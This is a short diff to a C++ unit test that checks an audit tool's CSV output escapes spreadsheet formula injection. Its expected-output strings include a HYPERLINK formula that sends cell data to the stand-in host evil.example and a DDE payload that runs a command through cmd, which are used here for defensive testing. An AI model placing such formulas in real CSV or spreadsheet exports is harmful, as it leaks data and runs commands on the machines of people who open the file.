@@ -325,7 +325,7 @@ TEST_F(AuditCliHostile, TableAndCsvShowEscapesInstead) {
 TEST_F(AuditCliHostile, CsvCellsCannotStartAFormula) {
   auto r = audit({"--format", "csv"});
   for (const char* cell : {",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",", ",'@SUM(1+1),",
-                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab\r\n", ",\\x0d=1+1,"})
+                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab,1\r\n", ",\\x0d=1+1,"})
     EXPECT_NE(r.out.find(cell), std::string::npos) << cell << "\n" << r.out;
   r = audit({"summary", "--format", "csv"});
   EXPECT_NE(r.out.find(",\"'=HYPERLINK("), std::string::npos) << r.out;
